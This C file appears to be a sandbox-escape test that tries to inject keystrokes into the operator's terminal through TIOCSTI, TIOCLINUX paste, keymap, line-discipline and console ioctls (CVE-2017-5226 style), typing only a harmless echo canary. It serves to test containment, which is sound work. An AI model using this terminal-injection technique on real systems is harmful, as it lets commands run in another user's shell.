/* tries: put words into the operator's terminal: TIOCSTI on every descriptor and terminal of /dev,
 * TIOCLINUX paste and selection, KDSKBENT, TIOCSETD line disciplines, TIOCCONS */
/* must fail because: a guest's terminal is a pty of the sentry's own; requests are answered there
 * and never passed on */
/* an escape would: have a command typed into the shell from which the box was started
 * (CVE-2017-5226) */
/* source: ATTACKS.md P4 */
#include <dirent.h>
#include <termios.h>

#include <sys/ioctl.h>
#include <sys/sysmacros.h>

#include "tricks.h"

static int typed;

/* A terminal of the box's own devpts: typing there is typing to ourselves. */
static bool is_ours(int fd)
{
    unsigned dev = 0;
    char name[64];
    struct stat st;
    if (ioctl(fd, 0x80045432 /* TIOCGDEV */, &dev) < 0)
        return false;
    snprintf(name, sizeof(name), "/dev/pts/%u", (dev & 0xff) | (dev >> 12 & 0xfff00));
    return stat(name, &st) == 0 && S_ISCHR(st.st_mode) &&
           st.st_rdev == makedev(dev >> 8 & 0xfff, dev & 0xff);
}

static void try_fd(int fd, const char *name)
{
    static const char text[] = "\necho escape-canary-typed\n";
    char paste[16] = {2, 1, 0, 1, 0, 5, 0, 5, 0, 0, 0}, sub = 3;
    int n = 0, disc[] = {0, 1, 2, 3, 13, 15, 21, 24, 29};
    for (const char *c = text; *c; c++)
        n += ioctl(fd, TIOCSTI, c) == 0;
    int e = errno, other = 0;
    other += ioctl(fd, TIOCLINUX, paste) == 0;
    other += ioctl(fd, TIOCLINUX, &sub) == 0;
    other += ioctl(fd, 0x4b47 /* KDSKBENT */, paste) == 0;
    other += ioctl(fd, 0x4b49 /* KDSKBSENT */, paste) == 0;
    other += ioctl(fd, 0x4b3a /* KDSETMODE */, 1) == 0;
    other += ioctl(fd, 0x5606 /* VT_ACTIVATE */, 1) == 0;
    other += ioctl(fd, TIOCCONS, 0) == 0;
    for (int i = 1; i < COUNT(disc); i++)
        other += ioctl(fd, TIOCSETD, &disc[i]) == 0;
    if (n || other || isatty(fd))
        step("%s: %d characters typed (%s), %d other requests taken", name, n, err_name(n ? 0 : e),
             other);
    typed += is_ours(fd) ? 0 : n + other;
}

static int attack(void)
{
    static const char *const names[] = {
        "/dev/tty",  "/dev/console", "/dev/tty0",       "/dev/tty1",  "/dev/ttyS0", "/dev/hvc0",
        "/dev/vcs1", "/proc/1/fd/0", "/proc/self/fd/0", "/dev/pts/0", "/dev/pts/1"};
    char name[300];
    for (int fd = 0; fd < 3; fd++) {
        snprintf(name, sizeof(name), "descriptor %d", fd);
        try_fd(fd, name);
    }
    for (int i = 0; i < COUNT(names); i++) {
        int fd = open(names[i], O_RDWR | O_NONBLOCK);
        if (fd >= 0)
            try_fd(fd, names[i]);
        close(fd);
    }
    DIR *d = opendir("/dev/pts");
    for (struct dirent *e; d && (e = readdir(d));) {
        snprintf(name, sizeof(name), "/dev/pts/%s", e->d_name);
        int fd = e->d_name[0] == '.' || e->d_name[0] == 'p'
                     ? -1
                     : open(name, O_RDWR | O_NONBLOCK | O_NOCTTY);
        if (fd >= 0)
            try_fd(fd, name);
        close(fd);
    }
    if (typed)
        return escaped("%d characters or requests went into a terminal that is not ours", typed);
    return contained("no terminal takes words that nobody typed");
}

static int twin(void)
{
    struct winsize ws;
    struct termios t;
    if (isatty(0) && (tcgetattr(0, &t) < 0 || ioctl(0, TIOCGWINSZ, &ws) < 0))
        return broken("attributes of the terminal: %s", err_name(errno));
    int m = open("/dev/ptmx", O_RDWR | O_NOCTTY);
    if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0)
        return broken("a pty of our own: %s", err_name(errno));
    int s = open(ptsname(m), O_RDWR | O_NOCTTY);
    char c = 0;
    if (s < 0 || write(m, "k\n", 2) != 2 || read(s, &c, 1) != 1 || c != 'k')
        return broken("typing into our own pty: %s", err_name(errno));
    return works("a pty of our own is typed into by its master");
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv, attack, twin);
}
